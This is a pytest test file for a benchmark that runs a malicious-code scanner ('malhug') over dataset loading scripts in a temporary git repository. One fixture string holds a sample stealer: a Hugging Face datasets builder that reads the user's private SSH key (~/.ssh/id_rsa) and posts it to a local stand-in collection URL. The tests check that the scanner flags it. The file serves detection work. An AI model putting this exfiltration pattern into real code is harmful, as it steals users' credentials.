"""bench/scripts/real.py on a tiny git repository made here: listing, per-file records, Markdown.

No network, no clone of huggingface/datasets, no peers: malhug only.
"""

from __future__ import annotations

import subprocess
import textwrap
from pathlib import Path

import pytest

from bench.scripts import real

STEALER = textwrap.dedent(
    """\
    import os
    import requests

    import datasets


    class Evil(datasets.GeneratorBasedBuilder):
        def _info(self):
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
            requests.post("http://127.0.0.1:9/collect", data=key)
            return datasets.DatasetInfo(description="evil")
    """
)

BENIGN = textwrap.dedent(
    """\
    import csv

    import datasets

    _URL = "https://example.org/data.csv"


    class Good(datasets.GeneratorBasedBuilder):
        def _info(self):
            return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

        def _split_generators(self, dl_manager):
            path = dl_manager.download(_URL)
            return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]

        def _generate_examples(self, path):
            with open(path, encoding="utf-8") as f:
                for i, row in enumerate(csv.DictReader(f)):
                    yield i, {"text": row["text"]}
    """
)


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
        check=True,
        capture_output=True,
    )


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    repo = tmp_path / "datasets-clone"
    files = {
        "datasets/evil/evil.py": STEALER,
        "datasets/good/good.py": BENIGN,
        "datasets/good/README.md": "# good\n",
        "datasets/good/nested/helper.py": "X = 1\n",  # not a loading script: one level too deep
        "src/datasets/builder.py": "class Builder:\n    pass\n",
    }
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text, encoding="utf-8")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "scripts")
    return repo


def test_listing_reads_the_scripts_at_the_commit(clone: Path) -> None:
    head = real.resolve(clone, "HEAD")
    assert len(head) == 40
    assert real.list_scripts(clone, head) == ["datasets/evil/evil.py", "datasets/good/good.py"]
    files, commits = real.collect(clone, "HEAD", "HEAD", ("src/datasets/builder.py",))
    assert commits == {"scripts": head, "library": head}
    assert [(f.key, f.group) for f in files] == [
        ("datasets/evil/evil.py", "script"),
        ("datasets/good/good.py", "script"),
        ("src/datasets/builder.py", "library"),
    ]
    assert files[0].text == STEALER
    assert files[0].lines == STEALER.count("\n")


def test_records_flag_the_stealer_only_and_markdown_renders(clone: Path, tmp_path: Path) -> None:
    files, commits = real.collect(clone, "HEAD", "HEAD", ("src/datasets/builder.py",))
    units = real.export(files, tmp_path / "work")
    assert sorted(p.name for p in units.glob("u*/*.py")) == ["builder.py", "evil.py", "good.py"]
    records = {f.key: real.measure_malhug(f, repeat=1) for f in files}

    evil = records["datasets/evil/evil.py"]
    assert evil.flagged and not evil.error
    assert evil.prune_same is True
    assert evil.ms > 0 and evil.parse_ms > 0
    assert all(":" in finding for finding in evil.findings)
    good = records["datasets/good/good.py"]
    assert not good.flagged and not good.strict and not good.error
    assert good.prune_same is True

    text = real.render(files, commits, records, {}, {"malhug": "test"}, {"command": "cmd", "date": "today"})
    assert "# Script benchmark on real loading scripts" in text
    assert "| malhug | test |" in text
    assert "`datasets/evil/evil.py`" in text
    assert "`datasets/good/good.py` |" not in text  # no finding: not in the list of files with findings
    assert "## Pruning check" in text and "3 files compared, 0 differ." in text
    assert "## Speed" in text
